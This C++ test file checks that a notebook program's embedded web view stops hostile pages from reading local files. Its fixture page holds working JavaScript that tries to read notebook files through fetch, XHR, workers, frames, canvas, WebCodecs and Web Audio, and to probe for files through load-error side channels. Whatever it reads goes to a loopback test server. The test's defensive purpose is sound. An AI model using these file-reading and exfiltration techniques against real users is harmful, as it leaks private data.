// Pages that try to take the user's files, shown the way a received note shows them: the
// note's own page, or a page file beside the notebook. Internet is on, so whatever the
// page reads it can send to the loopback server; the page also reports what it got.
#include <gtest/gtest.h>
#include <sys/stat.h>

#include <QJsonDocument>
#include <QPushButton>
#include <QTest>
#include <QWebEngineProfile>
#include <QWebEngineSettings>

#include "platform/launcher.h"

#include "webengine/engine_fixture.h"

using namespace wux;

namespace {

using test::waitUntil;

// Four seconds of a loud square wave as a WAV file (8-bit mono, 8 kHz).
std::string squareWave() {
  const std::uint32_t n = 4 * 8000;
  auto u32 = [](std::uint32_t v) { return std::string{char(v), char(v >> 8), char(v >> 16), char(v >> 24)}; };
  std::string wav = "RIFF" + u32(36 + n) + "WAVEfmt " + u32(16) + std::string("\1\0\1\0", 4) + u32(8000) + u32(8000) +
                    std::string("\1\0\x08\0", 4) + "data" + u32(n);
  for (std::uint32_t i = 0; i < n; ++i) wav += char(i / 20 % 2 ? 0x10 : 0xF0);
  return wav;
}

// What a hostile page sees of the notebooks beside it. The notebook is written so that,
// read as a script or a style sheet, its secret would show in an error or a rule.
class HostilePageTest : public test::NotebookFolderTest {
 protected:
  HostilePageTest() {
    std::filesystem::create_directories(tmp.path / "elsewhere");
    write("notes/web.mxh", "[NOTEBOOKSECRET]\r\nNOTEBOOKSECRET { color: red }\r\n");
    write("notes/web.mxa", "DOCUMENTSECRET\r\n");
    write("notes/other.mxh", "OTHERSECRET\r\n");
    write("notes/pic.png", test::imageBytes("PNG", 7, 5));
    write("notes/lib.js", "window.libLoaded = 'yes';");
    write("notes/style.css", "#p { color: rgb(0, 128, 0); }");
    write("notes/frame.html", "<p>FRAMESHOWN</p><script>parent.postMessage('frame shown', '*');</script>");
    write("elsewhere/far.png", test::imageBytes("PNG", 3, 2));
    write("elsewhere/exists.js", "window.existsRan = 'yes';");
    write("elsewhere/exists.css", "p { margin: 0; }");
    write("notes/sound.wav", squareWave());
    write("elsewhere/far.wav", squareWave());
    win.internet = true;
    // A click in the page would allow playing; the page plays at once here.
    QWebEngineProfile::defaultProfile()->settings()->setAttribute(QWebEngineSettings::PlaybackRequiresUserGesture, false);
  }
  std::string fileUrl(const std::string& name) { return "file://" + tmp.str(name); }

  // The page tries each way to read a file and reports what it got, sending anything it
  // read to the server. Each way ends in a promise: kept is what it read, refused a failure.
  std::string page() {
    return "<html><head><link rel=\"stylesheet\" href=\"style.css\">"
           "<link id=\"nbcss\" rel=\"stylesheet\" href=\"web.mxh\"></head><body>"
           "<p id=\"p\">text</p><img id=\"pic\" src=\"pic.png\">"
           "<img id=\"farfile\" src=\"" + fileUrl("elsewhere/far.png") + "\">"
           "<img id=\"farpath\" src=\"" + tmp.str("elsewhere/far.png") + "\">"
           "<img id=\"corspic\" crossorigin=\"anonymous\" src=\"pic.png\">"
           "<img id=\"corsfile\" crossorigin=\"anonymous\" src=\"" + fileUrl("notes/pic.png") + "\">"
           "<audio id=\"sound\" src=\"sound.wav\"></audio><audio id=\"farsound\" src=\"" + tmp.str("elsewhere/far.wav") +
           "\"></audio><audio id=\"corssound\" crossorigin=\"anonymous\" src=\"sound.wav\"></audio>" + kReport + "<script>"
           "window.onerror = function (m) { report.errors = (report.errors || '') + m + ';'; };"
           "function kept(key, p) { begin(); p.then(function (v) { send(key, v || 'refused'); },"
           "  function () { send(key, 'refused'); }); }"
           "function send(key, value) { if (value !== 'refused')"
           "  fetch('" + server.url("/") + "?' + key + '=' + encodeURIComponent(value)).catch(function () {});"
           "  put(key, value); }"
           "function tried(key, f) { kept(key, Promise.resolve().then(f)); }"
           "addEventListener('message', function (e) { report.frameMessage = String(e.data); });"
           "</script><script src=\"lib.js\"></script><script src=\"web.mxh\"></script><script>"
           // Frames of the notebook, the document and another notebook beside the page.
           "['web.mxh', 'web.mxa', 'other.mxh', 'frame.html'].forEach(function (name) {"
           "  var f = document.createElement('iframe'); f.src = name;"
           "  kept('frame ' + name, new Promise(function (ok) { f.onload = ok; })"
           "    .then(function () { return f.contentDocument.body.innerText; }));"
           "  document.body.appendChild(f); });"
           // Pictures drawn on canvases.
           "function pixels(id) { var img = document.getElementById(id);"
           "  var ready = new Promise(function (ok) { if (img.complete) ok(); else img.onload = img.onerror = ok; });"
           "  kept('canvas ' + id, ready.then(function () { var c = document.createElement('canvas');"
           "    c.width = 4; c.height = 2; var x = c.getContext('2d'); x.drawImage(img, 0, 0);"
           "    return x.getImageData(0, 0, 1, 1).data.join(',') + ' ' + c.toDataURL(); }));"
           "  kept('offscreen ' + id, ready.then(function () { return createImageBitmap(img); })"
           "    .then(function (b) { var o = new OffscreenCanvas(4, 2); o.getContext('2d').drawImage(b, 0, 0);"
           "      return o.convertToBlob(); }).then(function (blob) { return blob.arrayBuffer(); })"
           "    .then(function (a) { return 'bytes ' + a.byteLength; }));"
           "  kept('bitmap ' + id, ready.then(function () { return createImageBitmap(img); }).then(function (b) {"
           "    var c = document.createElement('canvas'); c.width = 4; c.height = 2; var x = c.getContext('2d');"
           "    x.drawImage(b, 0, 0); return x.getImageData(0, 0, 1, 1).data.join(','); }));"
           // Pixels through WebCodecs, which a canvas switch does not stop.
           "  kept('videoframe ' + id, ready.then(function () { var f = new VideoFrame(img, { timestamp: 0 });"
           "    var b = new Uint8Array(f.allocationSize());"
           "    return f.copyTo(b).then(function () { f.close(); return 'pixels ' + b.slice(0, 4).join(','); }); })); }"
           // Samples of a sound through Web Audio, taken once it plays.
           "function samples(id) { var a = document.getElementById(id);"
           "  kept('audio ' + id, new Promise(function (ok, no) { var ctx = new AudioContext();"
           "    var tap = ctx.createScriptProcessor(1024, 1, 1), heard = 0, blocks = 0;"
           "    ctx.createMediaElementSource(a).connect(tap); tap.connect(ctx.destination);"
           "    tap.onaudioprocess = function (e) { if (a.currentTime < 0.1 || blocks > 10) return;"
           "      e.inputBuffer.getChannelData(0).forEach(function (v) { heard = Math.max(heard, Math.abs(v)); });"
           "      if (++blocks > 10) { a.pause(); ok(heard > 0 ? 'samples ' + heard : ''); } };"
           "    a.onerror = no; a.play().catch(no); })); }"
           // Whether a path exists and is a folder, told by how a video fails on it.
           "function media(url) { return new Promise(function (ok) { var v = document.createElement('video');"
           "  v.onerror = function () { ok(v.error.code + ' ' + v.error.message); };"
           "  v.onloadedmetadata = function () { ok('metadata'); }; v.src = url; }); }"
           "function mediaProbe(key, far) { kept('media ' + key, Promise.all([media(far + 'exists.js'), media(far + 'missing.js'),"
           "  media(far)]).then(function (r) { return r[0] == r[1] && r[1] == r[2] ? 'refused' : 'told ' + r.join(' | '); })); }"
           // Whether a file exists, told when it and a missing file load differently as a
           // script or a style sheet.
           "function loads(tag, url) { return new Promise(function (ok) { var e = document.createElement(tag);"
           "  if (tag == 'link') { e.rel = 'stylesheet'; e.href = url; } else e.src = url;"
           "  e.onload = function () { ok('load'); }; e.onerror = function () { ok('error'); };"
           "  document.head.appendChild(e); }); }"
           "function probe(key, tag, far, ending) { kept('probe ' + key, Promise.all([loads(tag, far + 'exists' + ending),"
           "  loads(tag, far + 'missing' + ending)]).then(function (r) { return r[0] == r[1] ? 'refused' : 'told ' + r; })); }"
           "addEventListener('load', function () { pixels('pic'); pixels('farfile'); pixels('farpath');"
           "  pixels('corspic'); pixels('corsfile');"
           "  samples('sound'); samples('farsound'); samples('corssound');"
           "  mediaProbe('file', '" + fileUrl("elsewhere/") + "'); mediaProbe('path', '../elsewhere/');"
           // Reads of the file itself.
           "  ['web.mxh', '" + fileUrl("notes/web.mxh") + "'].forEach(function (u, i) {"
           "    kept('fetch ' + i, fetch(u).then(function (r) { return r.text(); }));"
           "    kept('xhr ' + i, new Promise(function (ok, no) { var x = new XMLHttpRequest(); x.open('GET', u);"
           "      x.onload = function () { ok(x.responseText); }; x.onerror = no; x.send(); })); });"
           "  var abs = new URL('web.mxh', location.href).href;"
           "  kept('worker', new Promise(function (ok, no) {"
           "    var w = new Worker(URL.createObjectURL(new Blob(['fetch(' + JSON.stringify(abs) + ')"
           ".then(function (r) { return r.text(); }).then(function (t) { postMessage(t); }, function () { postMessage(\\'refused\\'); });'])));"
           "    w.onmessage = function (e) { ok(e.data); }; w.onerror = no; }));"
           // Style rules of a notebook taken as a style sheet.
           "  tried('rules', function () { return document.getElementById('nbcss').sheet.cssRules[0].cssText; });"
           "  probe('js file', 'script', '" + fileUrl("elsewhere/") + "', '.js');"
           "  probe('js path', 'script', '../elsewhere/', '.js');"
           "  probe('css file', 'link', '" + fileUrl("elsewhere/") + "', '.css');"
           "  end(); });</script></body></html>";
  }

  int naturalWidth(const char* id) {
    return evaluate(QStringLiteral("document.getElementById('%1').naturalWidth").arg(QLatin1String(id))).toInt();
  }

  // Pictures, style sheets, scripts and frames beside the page show; pictures from any
  // path show; no file's content reaches the page, and no secret reaches the server.
  void expectShownButNothingRead() {
    const QVariantMap report = reportOf(note);
    std::string text = QJsonDocument::fromVariant(report).toJson(QJsonDocument::Compact).toStdString();
    EXPECT_EQ(naturalWidth("pic"), 7);
    EXPECT_EQ(naturalWidth("farfile"), 3);
    EXPECT_EQ(naturalWidth("farpath"), 3);
    EXPECT_GT(evaluate(QStringLiteral("document.getElementById('sound').currentTime")).toDouble(), 0);
    EXPECT_EQ(evaluate(QStringLiteral("getComputedStyle(document.getElementById('p')).color")).toString(),
              QStringLiteral("rgb(0, 128, 0)"));
    EXPECT_EQ(evaluate(QStringLiteral("window.libLoaded")).toString(), QStringLiteral("yes"));
    EXPECT_EQ(report.value("frameMessage").toString(), QStringLiteral("frame shown")) << text;

    for (const char* key : {"frame web.mxh", "frame web.mxa", "frame other.mxh", "frame frame.html", "canvas pic",
                            "canvas farfile", "canvas farpath", "offscreen pic", "offscreen farfile",
                            "offscreen farpath", "bitmap pic", "bitmap farfile", "bitmap farpath", "videoframe pic",
                            "videoframe farfile", "videoframe farpath", "videoframe corspic", "videoframe corsfile",
                            "audio sound", "audio farsound", "audio corssound", "media file", "media path", "fetch 0", "fetch 1", "xhr 0", "xhr 1", "worker", "rules",
                            "probe js file", "probe js path", "probe css file"})
      EXPECT_EQ(report.value(key).toString().toStdString(), "refused") << key << " in " << text;
    for (const std::string& path : server.paths) text += "\n" + path;
    for (const char* secret : {"NOTEBOOKSECRET", "DOCUMENTSECRET", "OTHERSECRET", "FRAMESHOWN", "data%3Aimage"})
      EXPECT_EQ(text.find(secret), std::string::npos) << secret << " in " << text;
  }
};

TEST_F(HostilePageTest, ANotesOwnPageShowsWhatIsBesideItAndReadsNoFile) {
  note->body().setText(page());
  expectShownButNothingRead();
}

TEST_F(HostilePageTest, APageFileBesideTheNotebookShowsWhatIsBesideItAndReadsNoFile) {
  write("notes/page.html", page());
  note->putField_("Filename", "\".\\page.html\"");
  expectShownButNothingRead();
  // The page's own address stays a file address wherever the program shows or passes it.
  EXPECT_EQ(editor.webFrame()->location(), fileUrl("notes/page.html"));
  EXPECT_EQ(editor.webFrame()->browser()->url().toString().toStdString(), fileUrl("notes/page.html"));
}

// The program's own addresses for local pages never leave the engine: the location
// line, the buttons and the links give file addresses, as they always did.
TEST_F(HostilePageTest, LocalPagesAreNamedByTheirFileAddresses) {
  platform::RecordingLauncher launcher;
  platform::ScopedLauncher useLauncher(&launcher);
  std::vector<std::string> newNodes;
  win.table.add("newMemoNodeKind_", [&](const CommandArgs& args) {
    newNodes.push_back(commandArg(args, 0));
    return 0;
  });
  // The third link is "日本.html" in Shift_JIS, which the page is read in.
  const std::string links = "<a href=\"child.html\">c</a><a href=\"sub/x.html#top\">x</a>"
                            "<a href=\"\x93\xFA\x96\x7B.html\">j</a><img id=\"pic\" src=\"pic.png\">";
  write("notes/page.html", links);
  note->putField_("Filename", "\".\\page.html\"");
  editor.show();
  show(note);
  TFrameWB* wb = editor.webFrame();
  const std::string page = fileUrl("notes/page.html");
  ASSERT_TRUE(waitUntil([&] { return wb->location() == page && !wb->browser()->isBusy(); })) << wb->location();
  auto click = [&](const char* name) { QTest::mouseClick(wb->findChild<QPushButton*>(QLatin1String(name)), Qt::LeftButton); };
  // Runs `step` and waits until the page it loads shows its picture.
  auto loaded = [&](const std::function<void()>& step) {
    int loads = 0;
    QMetaObject::Connection c = QObject::connect(wb->browser(), &WebBrowser::loadFinished, [&loads] { ++loads; });
    step();
    const bool shown = waitUntil([&] { return loads > 0 && naturalWidth("pic") == 7; });
    QObject::disconnect(c);
    return shown;
  };
  // The links, and what the buttons take (nothing from a page without an address).
  auto expectEverywhere = [&](const std::string& address) {
    StringList found;
    ASSERT_EQ(wb->getLinkList_(found), 3);
    EXPECT_EQ(found[0], fileUrl("notes/child.html"));
    EXPECT_EQ(found[1], fileUrl("notes/sub/x.html") + "#top");
    EXPECT_EQ(found[2], fileUrl("notes/") + "%E6%97%A5%E6%9C%AC.html");
    newNodes.clear();
    launcher.calls.clear();
    for (const char* button : {"NewNodeBtn", "NewURLBtn", "IEBtn"}) click(button);
    EXPECT_EQ(newNodes, address.empty() ? std::vector<std::string>{} : std::vector<std::string>{address});
    EXPECT_EQ(launcher.calls.size(), address.empty() ? 0u : 2u);
    for (const auto& call : launcher.calls) EXPECT_EQ(call.target, address);
    if (address.empty()) EXPECT_EQ(win.status(), "Exit: this page has no address");
  };
  expectEverywhere(page);
  // Reloaded, the page is the same file.
  ASSERT_TRUE(loaded([&] { click("ReLoadBtn"); }));
  EXPECT_EQ(wb->location(), page);
  expectEverywhere(page);

  // A note's own page has no address; its links count from its notebook's folder.
  note->putField_("Filename", "\"\"");
  note->body().setText(links);
  ASSERT_TRUE(loaded([&] { show(note); }));
  EXPECT_EQ(wb->location(), "*Memo*");
  expectEverywhere("");
  ASSERT_TRUE(loaded([&] { click("ReLoadBtn"); }));
  EXPECT_EQ(wb->location(), "*Memo*");
  expectEverywhere("");

  // A link to a folder lists the folder.
  evaluate(QStringLiteral("location.href = './'; 0"));
  ASSERT_TRUE(waitUntil([&] { return wb->browser()->url().toString().toStdString() == fileUrl("notes/"); }))
      << wb->browser()->url().toString().toStdString();
  EXPECT_TRUE(waitUntil([&] { return evaluate(QStringLiteral("document.body.innerText")).toString().contains("page.html"); }));
  // The location line follows the link, and names what was asked for when a load fails.
  EXPECT_TRUE(waitUntil([&] { return wb->location() == fileUrl("notes/"); })) << wb->location();
  ASSERT_EQ(mkfifo(tmp.str("notes/fifo").c_str(), 0600), 0);
  wb->navigate_(tmp.str("notes/fifo"));
  EXPECT_TRUE(waitUntil([&] { return wb->location() == fileUrl("notes/fifo"); })) << wb->location();
}

}  // namespace
